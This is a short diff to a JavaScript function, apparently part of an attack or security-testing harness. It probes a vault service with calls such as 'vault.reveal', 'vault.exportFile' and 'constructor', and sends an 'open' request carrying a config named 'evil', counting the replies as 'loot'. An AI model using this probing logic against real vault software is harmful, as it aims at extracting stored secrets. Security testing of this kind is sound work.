@@ -126,7 +126,16 @@ globalThis.interrogate = async () => {
       loot.replies += 1;
       keep(data, 6);
     });
-    const calls = ['vault.list', 'vault.state', 'vault.reveal', 'vault.export', 'status', 'records', 'constructor'];
+    const calls = [
+      'vault.list',
+      'vault.state',
+      'vault.slots',
+      'vault.reveal',
+      'vault.exportFile',
+      'status',
+      'records',
+      'constructor',
+    ];
     const asked = [
       ...calls.map((name) => ['call', name, ['groq']]),
       ['open', { config: evil, join: true, gateway: '/', kdf: '/' }],
